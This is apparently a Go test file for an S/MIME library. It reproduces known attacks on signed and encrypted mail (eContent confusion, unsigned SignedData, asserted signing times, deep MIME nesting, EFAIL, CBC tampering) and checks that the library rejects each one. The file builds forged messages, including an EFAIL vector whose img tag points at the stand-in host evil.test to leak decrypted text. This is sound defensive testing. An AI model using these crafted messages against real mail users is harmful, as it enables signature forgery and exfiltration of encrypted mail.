package smime_test

import (
	"bytes"
	"slices"
	"strings"
	"testing"
	"time"

	"signet/smime"
	"signet/smime/cms"
	"signet/smime/internal/entity"
	"signet/smime/internal/testca"
)

// The attacks on whole messages that other implementations fell to, each with a vector that is made here. SECURITY.md
// lists them.

// good tells whether a message is shown as signed.
func good(report *smime.Report) bool {
	return report.Verdict == smime.VerdictVerified || report.Verdict == smime.VerdictVerifiedAndConfidential
}

// detached returns a multipart/signed message with the entity and the signature part as given.
func detached(content, signature []byte) []byte {
	message := crlf("From: alice@example.test\nDate: Mon, 01 Jun 2026 12:00:00 +0000\nMIME-Version: 1.0\n" +
		"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=b\n\n--b\n")
	message += string(content) + crlf("\n--b\nContent-Type: application/pkcs7-signature\nContent-Transfer-Encoding: base64\n\n")
	return []byte(message + string(entity.AppendBase64(nil, signature)) + crlf("--b--\n"))
}

func mustSignCMS(t *testing.T, content []byte, placement cms.Placement, ids ...*testca.Identity) []byte {
	t.Helper()
	var signers []cms.Signer
	for _, id := range ids {
		signers = append(signers, signer(id))
	}
	der, err := cms.Sign(content, signers, cms.SignOptions{Time: testca.Now(), Placement: placement})
	if err != nil {
		t.Fatal(err)
	}
	return der
}

// Thunderbird and others showed the part that was sent as signed, after they had verified the content inside of the
// signature: CVE-2018-18509, "eContent confusion" of "Johnny, you are fired!".
func TestAttackWithContentInADetachedSignature(t *testing.T) {
	genuine, fake := []byte("\r\nMeet at noon.\r\n"), []byte("\r\nYou are fired.\r\n")
	if report := open(t, detached(genuine, mustSignCMS(t, genuine, cms.Detached, people.alice))); report.Verdict != smime.VerdictVerified {
		t.Fatalf("the way of forging is wrong: %s: %+v", report.Verdict, report.Signers)
	}
	for name, content := range map[string][]byte{"another content": fake, "the same content": genuine} {
		report := open(t, detached(content, mustSignCMS(t, genuine, cms.Encapsulated, people.alice)))
		if report.Verdict != smime.VerdictInvalid {
			t.Errorf("%s: got %s", name, report.Verdict)
		}
	}
}

// A SignedData that nobody signed was good for Bouncy Castle (CVE-2026-59639) and was shown as signed by several mail
// programs ("Johnny, you are fired!", C3).
func TestAttackWithoutSigners(t *testing.T) {
	const empty = "\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x80\x30\x80\x02\x01\x01\x31\x00\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01"
	const end = "\x00\x00\x31\x00\x00\x00\x00\x00\x00\x00" // signerInfos is an empty SET
	text := "\r\nYou are fired.\r\n"
	inside := "\xa0\x80\x04" + string(rune(len(text))) + text + "\x00\x00"
	header := "From: alice@example.test\r\nDate: Mon, 01 Jun 2026 12:00:00 +0000\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\n"
	for name, message := range map[string][]byte{
		"clear-signed":  detached([]byte(text), []byte(empty+end)),
		"opaque-signed": []byte(header + empty + inside + end),
	} {
		report := open(t, message)
		if report.Verdict != smime.VerdictUnprotected || len(report.Signers) != 0 || !has(report.Findings, smime.FindingNoSigners) {
			t.Errorf("%s: got %s: %+v", name, report.Verdict, report.Findings)
		}
		if report.Content.Text() != "You are fired.\n" {
			t.Errorf("%s: got text %q", name, report.Content.Text())
		}
	}
}

// Bouncy Castle's validator of signed mail looked at certificates at the time that the signer asserts: CVE-2026-59641.
// Whoever has an expired key, or a stolen one, can assert any time.
func TestAttackWithTheSignersTime(t *testing.T) {
	alice := testca.Email("alice@example.test")
	for _, tt := range []struct {
		name   string
		signer *testca.Identity
		at     time.Time // within the validity of the certificate
		want   smime.Verdict
	}{
		{"expired", people.root.Issue(alice, testca.Expired), testca.Now().AddDate(0, 0, -90), smime.SignerExpired},
		{"not yet valid", people.root.Issue(alice, testca.NotYetValid), testca.Now().AddDate(0, 0, 90), smime.SignerNotYetValid},
	} {
		date := "Date: " + tt.at.Format(time.RFC1123Z) + "\r\n"
		message := strings.Replace(simple, "Date: Mon, 01 Jun 2026 12:00:00 +0000\r\n", date, 1)
		out, err := smime.Protect(t.Context(), []byte(message), smime.ProtectOptions{Signers: []cms.Signer{signer(tt.signer)}, Time: tt.at})
		if err != nil {
			t.Fatal(err)
		}
		report := open(t, out[0].Message)
		if report.Verdict != smime.VerdictUntrusted || report.Signers[0].Verdict != tt.want || !report.Signers[0].SigningTime.Equal(tt.at) {
			t.Errorf("%s: got %s: %+v", tt.name, report.Verdict, report.Signers)
		}
	}
}

// Bouncy Castle's canonicaliser of signed mail recursed into each multipart and overflowed the stack at some 2,500 of
// them. Each way into a message stops at its limit.
func TestAttackWithNestedMIME(t *testing.T) {
	const levels = 2500
	var multiparts, messages strings.Builder
	multiparts.WriteString("From: alice@example.test\r\n")
	for i := range levels {
		boundary := "b" + strings.Repeat("x", i%60) + string(rune('a'+i%26))
		multiparts.WriteString("Content-Type: multipart/mixed; boundary=" + boundary + "\r\n\r\n--" + boundary + "\r\n")
		messages.WriteString("From: alice@example.test\r\nContent-Type: message/rfc822\r\n\r\n")
	}
	for name, nested := range map[string]string{"multiparts": multiparts.String(), "messages": messages.String()} {
		nested += "Content-Type: text/plain\r\n\r\nhello\r\n"
		for form, message := range map[string][]byte{
			"bare":   []byte(nested),
			"opaque": opaque(t, "From: alice@example.test\r\n", nested, people.alice),
			"clear":  detached([]byte(nested), mustSignCMS(t, []byte(nested), cms.Detached, people.alice)),
			"sealed": enveloped(t, "From: alice@example.test\r\n", nested),
		} {
			report, err := openAs(message, people.bob)
			if err != nil && !isCode(err, smime.CodeTooDeep) || (err == nil) == (name == "multiparts") {
				t.Errorf("%s, %s: got %v", name, form, err)
			}
			if err == nil && form == "bare" && report.Verdict != smime.VerdictUnprotected {
				t.Errorf("%s, %s: got %s", name, form, report.Verdict)
			}
			if _, err := smime.Inspect(message); err != nil && !isCode(err, smime.CodeTooDeep) {
				t.Errorf("%s, %s: Inspect: %v", name, form, err)
			}
		}
		if _, err := smime.Protect(t.Context(), []byte(nested), smime.ProtectOptions{Signers: []cms.Signer{signer(people.alice)}}); err == nil && name == "multiparts" {
			t.Errorf("%s: signed", name)
		}
	}
}

// EFAIL (2018) put an encrypted part between two of its own, an image's address before and a quotation mark after, and mail
// programs sent the text to that address: direct exfiltration. What is encrypted is opened alone or not at all.
func TestAttackWithPartsAroundAnEncryptedOne(t *testing.T) {
	sealed := encryptedTo(t, []byte(simple), people.bob)
	_, body, _ := bytes.Cut(sealed, []byte("\r\n\r\n"))
	for _, kind := range []string{"mixed", "alternative", "related"} {
		message := crlf("From: alice@example.test\nContent-Type: multipart/"+kind+"; boundary=x\n\n--x\nContent-Type: text/html\n\n"+
			"<img src=\"http://evil.test/\n--x\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n"+
			"Content-Transfer-Encoding: base64\n\n") + string(body) + crlf("--x\nContent-Type: text/html\n\n\">\n--x--\n")
		report := open(t, []byte(message), people.bob)
		for _, part := range report.Content.Parts {
			if bytes.Contains(part.Data, []byte("evil.test")) && bytes.Contains(part.Data, []byte("noon")) {
				t.Errorf("%s: what was encrypted is in one part with what was not: %q", kind, part.Data)
			}
		}
		opened := slices.ContainsFunc(report.Layers, func(l smime.Layer) bool { return l.Kind == smime.LayerEnveloped })
		if opened && strings.Contains(report.Content.HTML(), "evil.test") {
			t.Errorf("%s: the parts around are shown as the content", kind)
		}
	}
}

// EFAIL's gadgets changed ciphertext in CBC mode, which has no integrity (CVE-2017-17689). The text then changes too, and
// nothing notices but the reader: they are told that nobody vouches for it, and a signature inside no longer holds.
func TestAttackWithChangedCiphertext(t *testing.T) {
	changed := func(message []byte) []byte {
		ed, err := cms.Encrypt(message, []cms.Recipient{{Certificate: people.bob.Certificate}}, cms.EncryptOptions{})
		if err != nil {
			t.Fatal(err)
		}
		ed[len(ed)-len(message)/2] ^= 1 // one block becomes noise, and one bit of the next one turns
		return append([]byte("From: alice@example.test\r\nDate: Mon, 01 Jun 2026 12:00:00 +0000\r\nContent-Type: application/pkcs7-mime\r\n\r\n"), ed...)
	}
	padding := "Content-Type: text/plain\r\n\r\n" + strings.Repeat("Meet at noon. ", 100) + "\r\n"
	report := open(t, changed([]byte(padding)), people.bob)
	if report.Verdict != smime.VerdictConfidential || !has(report.Findings, smime.FindingNotAuthenticated) {
		t.Errorf("got %s: %+v", report.Verdict, report.Findings)
	}
	signed := opaque(t, "", padding, people.alice)
	if report, err := openAs(changed(signed), people.bob); err == nil && good(report) {
		t.Errorf("signed inside: got %s", report.Verdict)
	}
}
